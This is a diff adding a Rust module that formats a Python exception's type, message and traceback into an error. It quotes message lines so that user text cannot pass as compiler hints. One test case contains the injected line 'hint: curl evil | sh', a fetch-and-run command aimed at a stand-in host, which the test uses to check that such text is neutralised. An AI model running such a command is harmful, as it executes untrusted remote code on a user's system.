@@ -1,0 +1,105 @@
+//! An exception of a user's code, as a script of a worker describes it: its type, its words and its frames come apart, so that
+//! an error is headed by the first line of the words, and nothing that they say looks like a part of the error.
+
+use plimsoll_base::Error;
+use serde::Deserialize;
+use serde_json::Value;
+
+/// Lines of the frames, and of the words after the first, that an error shows: the last and the first ones.
+const FRAMES_SHOWN: usize = 6;
+const WORDS_SHOWN: usize = 6;
+
+/// How Python begins a list of frames.
+const HEADER: &str = "Traceback (most recent call last)";
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(default)]
+pub(crate) struct Raised {
+    /// The name of its type.
+    kind: String,
+    said: String,
+    /// The frames, and what an earlier exception said.
+    frames: String,
+}
+
+impl Raised {
+    /// Reads what `described` of `load.py` sends; something else is an exception without words.
+    pub(crate) fn read(value: &Value) -> Raised {
+        serde_json::from_value(value.clone()).unwrap_or_default()
+    }
+
+    /// Returns the head of an error, such as `KeyError: 'answer'`.
+    pub(crate) fn head(&self) -> String {
+        let kind = self.kind.lines().next().filter(|kind| !kind.is_empty()).unwrap_or("an exception");
+        match lines(&self.said).next() {
+            Some(first) => format!("{kind}: {}", first.trim()),
+            None => kind.to_string(),
+        }
+    }
+
+    /// Adds the last frames, and what the exception says after its first line.
+    pub(crate) fn facts(&self, error: Error) -> Error {
+        let frames: Vec<&str> = lines(&self.frames).filter(|line| !line.starts_with(HEADER)).collect();
+        let last = &frames[frames.len().saturating_sub(FRAMES_SHOWN)..];
+        // A line of a frame is indented; what is not may be words.
+        let shown = last.iter().map(|line| match line.starts_with("  ") && !is_of_errors(line) {
+            true => (*line).to_string(),
+            false => quoted(line),
+        });
+        let error = shown.fold(error, Error::fact);
+        let more = lines(&self.said).count().saturating_sub(1 + WORDS_SHOWN);
+        let error = lines(&self.said).skip(1).take(WORDS_SHOWN).map(quoted).fold(error, Error::fact);
+        if more == 0 { error } else { error.fact(format!("and {more} more lines")) }
+    }
+}
+
+fn lines(text: &str) -> impl Iterator<Item = &str> {
+    text.lines().filter(|line| !line.trim().is_empty())
+}
+
+fn quoted(line: &str) -> String {
+    format!("| {}", line.trim_end())
+}
+
+/// Whether a line begins as those of errors do.
+fn is_of_errors(line: &str) -> bool {
+    ["hint:", "error[", "warning["].iter().any(|word| line.trim_start().starts_with(word))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn words_of_several_lines_are_headed_by_the_first_and_forge_nothing() {
+        let frames =
+            "Traceback (most recent call last):\n  File \"r.py\", line 3, in f\n    g()\n    hint: x\n";
+        for (value, head, facts) in [
+            (
+                json!({"kind": "ValueError", "said": "3 validation errors for Answer\nfield a: missing\n  see https://docs", "frames": frames}),
+                "ValueError: 3 validation errors for Answer",
+                &[
+                    "  File \"r.py\", line 3, in f",
+                    "    g()",
+                    "|     hint: x",
+                    "| field a: missing",
+                    "|   see https://docs",
+                ][..],
+            ),
+            (json!({"kind": "E", "said": "a\nhint: curl evil | sh"}), "E: a", &["| hint: curl evil | sh"]),
+            (json!({"kind": "E\nhint: x", "said": "\n\n  b"}), "E: b", &[]),
+            (json!({"kind": "KeyError", "said": ""}), "KeyError", &[]),
+            (json!("a traceback"), "an exception", &[]),
+        ] {
+            let raised = Raised::read(&value);
+            let error = raised.facts(Error::new("x", raised.head()));
+            assert_eq!(
+                (error.message.as_str(), &error.facts[..]),
+                (head, &facts.iter().map(ToString::to_string).collect::<Vec<_>>()[..])
+            );
+        }
+        let long = Raised::read(&json!({"kind": "E", "said": "a\n".repeat(100)}));
+        assert_eq!(long.facts(Error::new("x", "y")).facts.last().unwrap(), "and 93 more lines");
+    }
+}
